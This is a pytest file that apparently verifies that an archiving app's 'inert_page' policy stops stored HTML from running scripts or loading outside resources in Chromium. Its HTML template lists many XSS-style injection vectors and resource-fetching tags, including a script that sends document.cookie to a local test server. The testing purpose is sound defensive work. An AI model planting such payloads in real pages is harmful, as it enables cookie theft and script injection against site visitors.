"""An archived page that tries everything, in a real Chromium."""

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from sources.web.copies import inert_page
from tests.conftest import Cast
from tests.sources.services.copies import make_copy, make_source

pytestmark = [pytest.mark.django_db, pytest.mark.browser]

TRICKS = """<!doctype html><html><head><title>Archived</title>
<meta http-equiv="refresh" content="0;url={out}/refresh"><base href="{out}/base/">
<link rel="stylesheet" href="{out}/style.css"><link rel="prefetch" href="{out}/prefetch">
<link rel="preload" as="image" href="{out}/preload"><link rel="icon" href="{out}/icon">
<script>document.title = "ran"; fetch("{out}/fetch?" + document.cookie)</script>
<script src="{out}/script.js"></script><script type="module">import "{out}/module.js"</script>
<style>@import "{out}/import.css"; body {{ background: url({out}/background) }}
@font-face {{ font-family: x; src: url({out}/font) }} p {{ font-family: x }}</style></head>
<body onload="document.title='ran'; new Image().src='{out}/onload'">
<p>Archived words.</p><img src="{out}/image"><img src=x onerror="document.title='ran'"><img srcset="{out}/srcset 1x">
<iframe src="{out}/frame"></iframe><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>
<object data="{out}/object"></object><embed src="{out}/embed"><video src="{out}/video" autoplay poster="{out}/poster"></video>
<audio src="{out}/audio" autoplay></audio>
<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='ran'"><script>document.title='ran'</script>
<image href="{out}/svg-image"/><animate onbegin="document.title='ran'" attributeName="x" dur="1s"/></svg>
<details open ontoggle="document.title='ran'"><summary>x</summary></details>
<form id="f" action="{out}/form" method="post"><input autofocus onfocus="document.title='ran'"><button id="go">Go</button></form>
<a id="js" href="javascript:document.title='ran'">link</a><a id="ping" href="#x" ping="{out}/ping">ping</a>
</body></html>"""


@dataclass
class Site:
    """A server of one page, given with its headers, and the paths that were asked for."""

    port: int = 0
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)


@pytest.fixture
def site() -> Iterator[Site]:
    made = Site()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            made.asked.append(self.path)
            if self.path != "/page":
                self.send_error(404)
                return
            self.send_response(200)
            for name, value in made.headers.items():
                self.send_header(name, value)
            self.send_header("Set-Cookie", "desk=secret; Path=/")
            self.end_headers()
            self.wfile.write(made.body)

        do_POST = do_GET

        def log_message(self, *args: Any) -> None:
            """Keep quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    made.port = server.server_port
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield made
    server.shutdown()
    server.server_close()
    thread.join()


def visit(chromium: Any, site: Site) -> tuple[str, list[str]]:
    """Open the page, click what can be clicked; the title at the end, and what was asked for beside the page."""
    page = chromium.new_context().new_page()
    page.goto(f"http://127.0.0.1:{site.port}/page", wait_until="load")
    page.wait_for_timeout(300)
    for selector in ("#js", "#ping", "#go"):
        if page.locator(selector).count():
            page.locator(selector).click(timeout=2_000, no_wait_after=True)
    page.wait_for_timeout(500)
    title = page.title()
    page.context.close()
    return title, [path for path in site.asked if path not in ("/page", "/favicon.ico")]


def test_nothing_runs_and_nothing_reaches_out(chromium: Any, cast: Cast, site: Site) -> None:
    markup = TRICKS.format(out=f"http://127.0.0.1:{site.port}")
    response = inert_page(make_copy(make_source(cast.editor), markup))
    site.body, site.headers = response.content, dict(response.items())
    title, asked = visit(chromium, site)
    assert (title, asked) == ("Archived", [])


def test_without_the_policy_the_same_page_does_both(chromium: Any, cast: Cast, site: Site) -> None:
    markup = TRICKS.format(out=f"http://127.0.0.1:{site.port}").replace('<meta http-equiv="refresh"', "<meta")
    site.body, site.headers = markup.encode(), {"Content-Type": "text/html"}
    page = chromium.new_context().new_page()
    page.goto(f"http://127.0.0.1:{site.port}/page", wait_until="commit")
    page.wait_for_function("document.title === 'ran'")
    page.wait_for_timeout(500)
    assert len(set(site.asked)) > 10
    page.context.close()
